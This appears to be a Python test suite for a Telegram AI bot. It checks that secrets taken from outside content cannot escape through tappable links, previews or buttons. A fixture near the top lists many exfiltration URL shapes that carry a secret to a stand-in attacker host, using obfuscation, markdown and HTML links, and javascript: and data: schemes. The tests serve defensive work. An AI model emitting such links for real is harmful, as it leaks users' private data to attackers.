"""What the model took from others cannot leave through the chat: no preview, nothing to tap.

Judged at the stand-in for Telegram, over every send, edit and draft. Of the known ways these do
not exist here and so cannot be tried: polls, contacts, venues, thumbnails, reply keyboards and
captions are never sent; speech is not read yet. Approvals and fetching have tests of their own.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path

from assurebot.demo.model import Ask, Call, Script, Turn
from assurebot.demo.telegram_faults import Refuse
from assurebot.demo.telegram_links import clickable
from assurebot.demo.telegram_rules import check_text
from assurebot.values import BoxFile, RunResult
from tests.doubles import FakeSandbox
from tests.obeying import question
from tests.scripts import LIMIT_SECONDS
from tests.world import GROUP, OWNER, USER, World, quick, running

SECRET = "c2VjcmV0LXdvcmRz"
EVIL = f"https://evil.example/p?q={SECRET}"
SHAPES = {
    "https": EVIL,
    "http": f"http://evil.example/?q={SECRET}",
    "bare domain": f"evil.example/?q={SECRET}",
    "host with a port": f"evil.example:8443/{SECRET}",
    "punycode": f"https://xn--e1afmkfd.xn--p1ai/{SECRET} xn--e1afmkfd.com",
    "mixed script": f"https://ev\u0456l.example/{SECRET} ev\u0456l.com",
    "user in the URL": f"https://good.example:{SECRET}@evil.example/",
    "IP addresses": f"http://203.0.113.9/{SECRET} 203.0.113.9:80 http://[2001:db8::1]/{SECRET}",
    "t.me share": f"t.me/share/url?url={SECRET} https://t.me/share/url?url={SECRET}",
    "tg scheme": f"tg://msg_url?url={SECRET}",
    "inline link": f"[the report]({EVIL} 'title')",
    "reference link": f"[the report][1] and [1]\n\n[1]: {EVIL}",
    "image": f"![a picture]({EVIL}) ![](evil.example/{SECRET})",
    "autolink": f"<{EVIL}> <me@evil.example>",
    "HTML": f'<a href="{EVIL}">the report</a> <img src={EVIL}>',
    "entities": f"&#104;ttps:&#47;/evil&#46;example/{SECRET}",
    "zero-width": f"https://ev\u200bil.exam\u2060ple/{SECRET} evil.\ufeffcom",
    "soft hyphen": f"https://evil.ex\xadample/{SECRET} ev\xadil.com",
    "dropped by the server": f"evil.\u202eco\u2028m/{SECRET} evil.co\u030am",
    "line break": f"https://\nevil.example/{SECRET[:8]}\n{SECRET[8:]}.example",
    "code": f"`{EVIL}` and\n```\n{EVIL}\n```\n    {EVIL}",
    "half in code": f"`https`://evil.example/{SECRET} `evil`.com",
    "styles in a URL": f"https://ev**il**.example/_{SECRET}_ ev*il*.com",
    "table": f"|a|b|\n|-|-|\n|{EVIL}|[x]({EVIL})|",
    "quote and list": f"> {EVIL}\n\n- [x]({EVIL})\n  1. evil.com",
    "heading": f"# [x]({EVIL}) evil.com",
    "e-mail": f"{SECRET}@evil.example",
    "phone": "+1 212 555 0123, +43(1)2345678",
    "marks": f"#{SECRET} $EUR /start_{SECRET} @{SECRET}",
    "several URLs": " ".join(f"https://evil.example/{char}" for char in SECRET[:6]),
    "subdomain": f"https://{SECRET}.evil.example {SECRET}.evil.com",
    "path": f"https://evil.example/{SECRET}/x.png",
    "encodings": f"https://evil.example/{SECRET.encode().hex()}/frperg-jbeqf",
    "mailto": f"mailto:me@evil.example?subject={SECRET} tel:+12125550123",
    "data URL": f"[x](data:text/html;base64,{SECRET}) data:text/html,{SECRET}",
    "other schemes": f"ftp://evil.example/{SECRET} x-app://{SECRET} javascript:x(evil.com)",
}
PADDING = "and so on, word by word, " * 40
"""Longer than what a draft holds back, in case a secret has only begun."""

PREVIEWED = ("sendMessage", "editMessageText")


def answers(seconds: float) -> Script:
    """Answer a forwarded "<n>" with the nth shape, slowly enough for drafts or edits."""

    def script(ask: Ask) -> Turn:
        number = int(re.findall(r"<(\d+)>", ask.last_user_text)[-1])
        text = f"Look: {list(SHAPES.values())[number]}\n\n{PADDING}"
        return Turn(chunks=(text, *["more "] * 4, f"end-{number}-"), chunk_seconds=seconds)

    return script


def leaks(world: World, *typed: str) -> Iterator[str]:
    """Name what a send, edit or draft so far offered beside what the owner has typed."""
    for call in world.telegram.requests:
        text = str(call.params.get("text") or call.params.get("caption") or "")
        if call.method == "answerCallbackQuery" or not text:
            continue
        raw = call.params.get("entities") or call.params.get("caption_entities")
        found = clickable(text, check_text(text, raw, may_be_empty=True).entities)
        yield from (f"{call.method}: {one}" for one in found if one not in typed)
        preview = call.params.get("link_preview_options") or {}
        if call.method in PREVIEWED and preview.get("is_disabled") is not True:
            yield f"{call.method}: a preview"
        keyboard = (call.params.get("reply_markup") or {}).get("inline_keyboard") or []
        yield from (f"a button {b}" for row in keyboard for b in row if "callback_data" not in b)


def words(text: str) -> list[str]:
    """The words of a text, as a reader counts them."""
    return re.findall(r"[^\W_]+", html.unescape(text))


def missing(shape: str, shown: str) -> list[str]:
    """Words of a shape that a reader does not get; those that Markdown spells out are joined."""
    gaps = re.compile(r"[*_`\xad\u200b\u2060\ufeff\u202e\u2028\u030a\ufffd]")
    return [word for word in words(gaps.sub("", shape)) if word not in gaps.sub("", shown)]


async def test_no_answer_and_no_draft_can_be_tapped(tmp_path: Path) -> None:
    """Every shape arrives word for word, in drafts and in the answer, and none of it is a link."""
    async with running(tmp_path, answers(0.02), RATE_USER_PER_MINUTE="1000") as world:
        for number, (name, shape) in enumerate(SHAPES.items()):
            world.owner.forward(f"Say <{number}>")
            shown = await world.answer(contains=f"end-{number}-")
            assert (name, missing(shape, shown.text)) == (name, [])
        assert list(leaks(world)) == []
        drafts = "\n".join(draft.text for draft in world.telegram.drafts(OWNER))
        assert [name for name, shape in SHAPES.items() if missing(shape, drafts)] == []


async def test_no_edit_can_be_tapped(tmp_path: Path) -> None:
    """The first twelve shapes again, in a group, where the answer grows by edits."""
    async with running(tmp_path, answers(0.03), ALLOWED_CHATS=str(GROUP)) as world:
        world.telegram.group(GROUP)
        for number, shape in enumerate(list(SHAPES.values())[:12]):
            world.owner.forward(f"@stand_in_bot, say <{number}>", GROUP)
            shown = await world.answer(GROUP, contains=f"end-{number}-")
            assert missing(shape, shown.text) == []
        await world.stop()
        assert list(leaks(world)) == []
        assert [message.edits > 0 for message in world.telegram.messages(GROUP)] == [True] * 12


async def test_what_the_splitter_cuts_cannot_be_tapped(tmp_path: Path) -> None:
    """A URL that does not fit into one message is no link in any of them."""
    url = f"https://evil.example/{'a.com/words-' * 700}"
    turn = Turn(text=f"{'word ' * 810}{url} then {EVIL} the-end")
    async with running(tmp_path, lambda _ask: turn) as world:
        world.owner.forward("Say it")
        await world.answer(contains="the-end")
        assert len(world.texts()) > 2
        assert url in "".join(world.texts())
        assert list(leaks(world)) == []


async def test_the_plain_form_after_a_refusal_cannot_be_tapped(tmp_path: Path) -> None:
    """A message that Telegram does not take is sent once more, as plainly guarded as before."""
    refusal = Refuse(status=400, description="Bad Request: can't parse entities")
    async with running(tmp_path, answers(0), RATE_USER_PER_MINUTE="1000") as world:
        for number, (name, shape) in enumerate(SHAPES.items()):
            world.telegram.faults.add("sendMessage", 1, refusal)
            world.owner.forward(f"Say <{number}>")
            shown = await world.answer(contains=f"end-{number}-")
            assert (name, missing(shape, shown.text)) == (name, [])
        assert list(leaks(world)) == []
        await world.stop()
        results = [line.get("result") for line in world.audit(type="send", phase="result")]
        assert results[1:] == ["refused", "ok"] * len(SHAPES)  # the first one is the start's


async def test_no_notice_can_be_tapped(tmp_path: Path) -> None:
    """The name of a stranger, and the reason of a failed delivery, are words of others."""
    async with running(tmp_path, lambda _ask: Turn(text="hello")) as world:
        world.telegram.person(667, f"{EVIL} @evil_bot").say("hi")
        notice = await world.answer(contains="A stranger knocked")
        assert EVIL in notice.text
        refusal = Refuse(status=400, description=f"Bad Request: see {EVIL} or me@evil.example")
        world.telegram.faults.add("sendMessage", 2, refusal, chat_id=USER)
        world.user.say("hello")
        notice = await world.answer(contains="could not be delivered")
        assert "https://evil.example" in notice.text
        assert list(leaks(world)) == []


async def test_no_error_message_can_be_tapped(tmp_path: Path) -> None:
    """The words in which a model's server fails are not quoted, so nothing of them can leave."""
    failure = Turn(status=400, error_type=EVIL, error_code="evil.com")
    async with running(tmp_path, lambda _ask: failure) as world:
        world.owner.forward("Say it")
        told = await world.answer(contains="The model did not answer")
        assert told.text == "⚠️ The model did not answer: anthropic: HTTP 400."
        assert list(leaks(world)) == []


async def test_nothing_said_before_a_question_can_be_tapped(tmp_path: Path) -> None:
    """A tainted turn that has to ask says its words first, guarded like an answer."""
    turn = Turn(
        text=f"Look: {EVIL} the-end",
        calls=(Call(name="fetch_url", arguments=f'{{"url": "{EVIL}"}}'),),
    )
    async with running(tmp_path, lambda _ask: turn) as world:
        asked = await question(world, world.owner.forward("Say it"))
        assert [EVIL in text for text in world.texts()[-2:]] == [True, True]
        assert world.texts()[-1] == asked.text
        assert list(leaks(world)) == []


async def test_no_file_name_can_be_tapped(tmp_path: Path) -> None:
    """A file is named as it was, with what hides made visible; where it cannot go, in code.

    Clients look for links in texts and captions alone (td/telegram/MessageEntity.cpp): they show
    a name as the label of the file, so one that reads like a URL is no link. We send no captions.
    """
    names = {
        "evil.com?q=1.txt": "evil.com?q=1.txt",
        "https://evil.com/q=1.txt": "q=1.txt",
        "ev\u202eil.com\u200b.txt": "ev<U+202E>il.com<U+200B>.txt",
    }
    files = tuple(BoxFile(name=name, data=b"x") for name in names)
    ran = RunResult(outcome="ok", exit_code=0, grade="A", files=files)
    box = FakeSandbox(lambda _: ran)
    code = Call(name="run_code", arguments='{"language": "python", "code": "1"}')
    parts = quick(box=lambda *_, **__: nullcontext(box))

    def script(ask: Ask) -> Turn:
        return Turn(text="the-end") if ask.tool_results else Turn(calls=(code,))

    async with running(tmp_path, script, parts=parts) as world:
        last = world.owner.forward("Make it")
        await world.answer(after=last, contains="the-end")
        await world.meanwhile(
            world.telegram.wait_for("sendMediaGroup", timeout_seconds=LIMIT_SECONDS)
        )
        await world.stop()
        sent = [message for message in world.telegram.messages(OWNER) if message.file is not None]
        assert [each.file and each.file.name for each in sent] == [*names.values()]
        assert [(each.text, each.entities) for each in sent] == [("", ())] * 3
        refusal = Refuse(status=400, description="Bad Request: no")
        world.telegram.faults.add("sendMediaGroup", None, refusal)
        await world.start()
        world.owner.forward("Make it")
        told = await world.answer(contains="could not be sent")
        assert "evil.com?q=1.txt (1 bytes)" in told.text
        assert list(leaks(world)) == []


async def test_only_what_the_owner_typed_in_this_turn_is_a_link(tmp_path: Path) -> None:
    """Over content from outside, the URLs in the owner's own words stay links, and no other."""
    mine = "https://mine.example/a?b=1"
    async with running(
        tmp_path, lambda _ask: Turn(text=f"Look: {mine} and {EVIL} the-end")
    ) as world:
        world.owner.forward(f"Say {EVIL}")
        first = await world.answer(contains="the-end")
        assert clickable(first.text, first.entities) == ()
        second = await world.ask(f"Compare that with {mine}", "the-end")
        assert clickable(second.text, second.entities) == (mine,)
        assert list(leaks(world, mine)) == []


async def test_an_answer_without_anything_from_outside_has_links(tmp_path: Path) -> None:
    """The guard is for what others wrote: else URLs can be tapped, though none is previewed."""
    async with running(tmp_path, lambda _ask: Turn(text=f"[docs]({EVIL}) the-end")) as world:
        shown = await world.ask("Where are the docs?", "the-end")
        assert (shown.text, shown.entities) == (f"docs ({EVIL}) the-end", ())
        assert list(leaks(world, EVIL)) == []
